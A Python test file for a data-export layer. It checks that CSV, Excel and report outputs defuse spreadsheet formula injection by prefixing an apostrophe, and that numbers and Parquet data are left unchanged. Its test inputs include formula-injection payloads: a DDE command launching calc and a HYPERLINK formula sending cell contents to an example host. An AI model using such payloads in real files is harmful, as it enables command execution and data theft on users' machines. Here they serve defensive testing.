"""What would be a formula in a spreadsheet is text in every CSV; numbers and other formats are as they were."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import numpy as np
import openpyxl
import pandas as pd
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

from i18n.texts import LANGUAGES
from layers.files.export import render
from layers.files.list_files import report_csv
from layers.files.spreadsheet import defused, defused_line
from layers.files.workbook import WARNING_RED, as_text
from layers.notes.notes import Notes

NOTES = Notes("Leemten", "Waar?", "", "user", (), (), "nabij gaps", "ab" * 32, "0.1.0", "nl")

FORMULAS = [
    *(f"{sign}1+1" for sign in "=+-@＝＋－＠﹢﹣"),
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://a.example/?x="&A1,"naam")',
    "-2+3",
    "-12",
    "+32 475 00 00 00",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\tnaam",
    "\rnaam",
    "  =1",
    "\u00a0=1",
    "\u200b=1",
    "\ufeff=1",
    "\u200b \u2060\t=1",
    "\x00=1",
    "\x0b-1",
]
INSIDE = ["naam;=1+1", "naam;=1;@b", "naam\n=1", "naam\r\n  +1", "naam\t-1", 'naam";=1']
HARMLESS = ["", "Boom", "Sint-Amands", "a=b", "b+c", "me@home", "'=1", '"=1"', "(=1)", "−1", "a; b", "é", "5-7", "1"]

MAY_BEGIN = re.compile(r"[\s\x00-\x1f\u00ad\u200b-\u200f\u2028-\u202f\u2060-\u2064\ufeff]*[=+\-@＝＋－＠]")


@pytest.mark.parametrize("words", FORMULAS, ids=repr)
def test_a_text_that_begins_like_a_formula_gets_an_apostrophe(words: str) -> None:
    table, n = defused(pd.DataFrame({"zone_name": [words, "Boom"]}))
    written, other = table["zone_name"]
    assert (written[0], other, n) == ("'", "Boom", 1)
    assert written.replace("'", "") == words.replace("'", "").replace("\r", "\n")


@pytest.mark.parametrize("words", INSIDE, ids=repr)
def test_also_where_another_separator_would_begin_a_cell(words: str) -> None:
    written = defused(pd.DataFrame({"zone_name": [words]}))[0]["zone_name"][0]
    assert written.replace("'", "") == words.replace("\r\n", "\n")
    for separator in ";\t\n":
        assert not any(MAY_BEGIN.match(cell) for cell in written.split(separator))


@pytest.mark.parametrize("words", HARMLESS, ids=repr)
def test_other_texts_stay_as_they_are(words: str) -> None:
    table, n = defused(pd.DataFrame({"zone_name": [words, None]}))
    assert (table["zone_name"][0], n) == (words, 0)


def test_numbers_and_other_values_stay_as_they_are() -> None:
    frame = pd.DataFrame(
        {
            "change": [-12.5, np.nan],
            "n": pd.array([-3, None], dtype="Int64"),
            "gap": pd.array([True, None], dtype="boolean"),
            "mixed": pd.Series([-4, -0.5], dtype=object),
            "day": pd.to_datetime(["2026-01-01", "2026-01-02"]),
        }
    )
    table, n = defused(frame)
    pd.testing.assert_frame_equal(table, frame)
    assert n == 0


def test_a_plain_number_in_a_column_of_given_values_is_no_formula() -> None:
    frame = pd.DataFrame({"value": ["-51.2", "+3", "1e-5", "-1+1", "-a"]})
    assert defused(frame, numbers=("value",))[0]["value"].tolist() == ["-51.2", "+3", "1e-5", "'-1+1", "'-a"]


def test_categories_and_headers_are_seen_to_and_the_table_given_is_left_alone() -> None:
    frame = pd.DataFrame({"=kop": pd.Categorical(["=1", "b", "=1"])}, index=[5, 6, 7])
    table, n = defused(frame)
    assert (list(table.columns), table["'=kop"].tolist(), n) == (["'=kop"], ["'=1", "b", "'=1"], 2)
    assert frame["=kop"].tolist() == ["=1", "b", "=1"]


@given(st.text(st.characters(exclude_categories=["Cs"]), max_size=12))
def test_no_text_at_all_begins_a_formula(words: str) -> None:
    written = defused(pd.DataFrame({"a": [words]}))[0]["a"][0]
    for cell in re.split(r"[;\t\r\n]", written):
        assert not MAY_BEGIN.match(cell)
    assert written.replace("'", "") == words.replace("'", "").replace("\r\n", "\n").replace("\r", "\n")


@given(st.text("=+-@,; \tab", max_size=12))
def test_a_line_before_the_table_holds_no_formula_either(words: str) -> None:
    first, *others = re.split(r"[,;\t]", defused_line(f"# naam: {words}"))
    assert first.startswith("# ")
    assert not any(MAY_BEGIN.match(cell) for cell in others)


def made(form: str, names: list[str], notes: Notes = NOTES) -> bytes:
    table = pd.DataFrame({"zone_id": names, "zone_name": names, "births": [-1.5] * len(names)})
    return render(table, notes, form)


@pytest.mark.parametrize("lang", LANGUAGES)
def test_a_csv_tells_what_was_changed_and_how_often(lang: str) -> None:
    notes = replace(NOTES, lang=lang)
    head = [line for line in made("csv", ["=1", "b", "@c"], notes).decode().splitlines() if line.startswith("# ")]
    told = [line for line in head if "(')" in line]
    assert len(told) == 1
    assert ": 4. " in told[0]
    assert "(')" not in made("csv", ["a", "b"], notes).decode()


def test_a_csv_reads_back_with_the_apostrophe_and_with_its_numbers() -> None:
    back = pd.read_csv(io.BytesIO(made("csv", FORMULAS)), comment="#", dtype={"zone_id": str, "zone_name": str})
    assert back["zone_name"].str.startswith("'").all()
    assert back["births"].tolist() == [-1.5] * len(FORMULAS)


def test_names_in_the_head_of_a_csv_are_seen_to() -> None:
    notes = replace(NOTES, title="Plan ‘a,=1+1;@b’\n=2", caveats=("x\t=3",))
    head = [line for line in made("csv", ["a"], notes).decode().splitlines() if line.startswith("# ")]
    assert len(head) >= 8
    for line in head:
        assert not any(MAY_BEGIN.match(cell) for cell in re.split(r"[,;\t]", line)), line


def test_excel_holds_text_and_no_formula() -> None:
    content = made("xlsx", [name.replace("\x00", "").replace("\x0b", "") for name in FORMULAS])
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "n", "inlineStr"}
    assert "=1+1" in {cell.value for row in sheet.iter_rows() for cell in row}


def test_a_cell_that_openpyxl_takes_for_a_formula_is_made_text(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    sheet = book.worksheets[0]
    sheet.append(["=1+1", "a", 3])
    assert sheet["A1"].data_type == "f"
    as_text(sheet)
    book.save(tmp_path / "x.xlsx")
    cell = openpyxl.load_workbook(tmp_path / "x.xlsx").worksheets[0]["A1"]
    assert (cell.data_type, cell.value) == ("s", "=1+1")


def test_formats_for_programs_are_unchanged() -> None:
    table = pq.read_table(io.BytesIO(made("parquet", FORMULAS)))
    assert table.column("zone_name").to_pylist() == FORMULAS


def report(values: list[str]) -> Any:
    frame = pd.DataFrame(
        {
            "row": range(2, 2 + len(values)),
            "column": "name",
            "value": values,
            "outcome": "refused",
            "message": [f"{value} is fout" for value in values],
        }
    )
    return SimpleNamespace(told=lambda _lang: frame)


def test_the_report_on_a_list_holds_no_formula() -> None:
    told, *rest = report_csv(report(["=1+1", "-51.2", "b"]), "nl").decode("utf-8-sig").splitlines()
    assert told.startswith("# Cellen die als een formule beginnen: 3.")
    rows = list(csv.DictReader(rest))
    assert [row["value"] for row in rows] == ["'=1+1", "-51.2", "b"]
    assert [row["message"] for row in rows] == ["'=1+1 is fout", "'-51.2 is fout", "b is fout"]
    assert report_csv(report(["a"]), "nl").decode("utf-8-sig").startswith("row,")


@pytest.mark.parametrize("warning", ["", "Verzonnen plaatsen"])
def test_red_stands_where_something_is_made_up_and_nowhere_else(warning: str) -> None:
    table = pd.DataFrame({"zone_id": ["1", "2"], "evidence": ["illustrative", "register"]})
    book = openpyxl.load_workbook(io.BytesIO(render(table, replace(NOTES, warning=warning), "xlsx")))
    first, asked = book.worksheets[0], book.worksheets[-1]
    red = ["B2"] if warning else []
    assert [at for at in ("A2", "A3", "B2", "B3") if _fill(first[at]) == WARNING_RED] == red
    assert (first.sheet_properties.tabColor is not None) == bool(warning)
    filled = [row for row in range(1, asked.max_row + 1) if _fill(asked.cell(row, 1)) == WARNING_RED]
    assert filled == ([1] if warning else [])
    assert all(asked.cell(row, 1).font.b for row in range(1, asked.max_row + 1))
    assert not any(asked.cell(row, 2).font.b for row in range(2, asked.max_row + 1))


def _fill(cell: Any) -> str:
    return str(cell.fill.fgColor.rgb)[-6:] if cell.fill.fill_type else ""
